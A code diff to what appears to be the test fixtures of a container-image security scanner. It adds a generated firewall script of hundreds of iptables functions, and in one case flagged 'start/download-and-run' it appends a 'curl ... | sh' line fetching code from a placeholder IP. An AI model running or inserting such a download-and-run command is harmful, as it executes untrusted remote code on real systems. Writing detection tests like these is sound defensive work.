@@ -1,6 +1,6 @@
 import { PATH } from '../../demo/rootfs.ts';
 import { hex, xor } from '../../testkit/coded.ts';
-import { type ImageCase, image, starts } from './image-case.ts';
+import { type ImageCase, image, program, starts } from './image-case.ts';
 
 const NGINX = { Cmd: ['nginx', '-g', 'daemon off;'] };
 
@@ -121,6 +121,13 @@ else
 fi
 `;
 
+/** As firewalls are set up: hundreds of functions and options, and more commands than either. */
+const RULES = Array.from({ length: 300 }, (_, i) => i);
+const FIREWALL = [
+  ...RULES.map((i) => `rules_${i}() {\n${`  iptables -A chain${i} -s "$1" -j ACCEPT\n`.repeat(9)}}\n`),
+  ...RULES.map((i) => `OPTION_${i}="$OPT_${i}"\nrules_${i} 10.0.${i % 250}.1\nmodprobe module${i}\n`),
+].join('');
+
 const FETCHED = 'https://releases.example/latest.json';
 
 /** As servers that run commands for a client of the same user are written: what comes in there is told apart by a table. */
@@ -217,6 +224,10 @@ export const REAL_TOOL_TWINS: readonly ImageCase[] = [
     ),
   },
   { name: 'a firewall that reads its rules and starts a server', spec: image(WALL, WALL_START) },
+  {
+    name: 'a firewall of hundreds of functions, options and commands',
+    spec: starts(`${FIREWALL}exec nginx`, { 'usr/sbin/iptables': program(), 'usr/sbin/modprobe': program() }),
+  },
   {
     name: 'a service that sources the settings of each name that it is told of',
     spec: image({ 'etc/init.d/flow': INSTANCES, 'etc/flow/default.conf': 'options="-p 2055"\n' }, NGINX),
@@ -380,6 +391,15 @@ export const REAL_TOOLS: readonly ImageCase[] = [
       },
       PARTS_START,
     ),
+  },
+  {
+    name: 'a firewall of hundreds of functions, options and commands, and what it runs at its end',
+    rule: 'start/download-and-run',
+    severity: 'high',
+    spec: starts(`${FIREWALL}curl -s http://192.0.2.7/x | sh\nexec nginx`, {
+      'usr/sbin/iptables': program(),
+      'usr/sbin/modprobe': program(),
+    }),
   },
   {
     name: 'a service that sources the settings of a name, and one that has none',
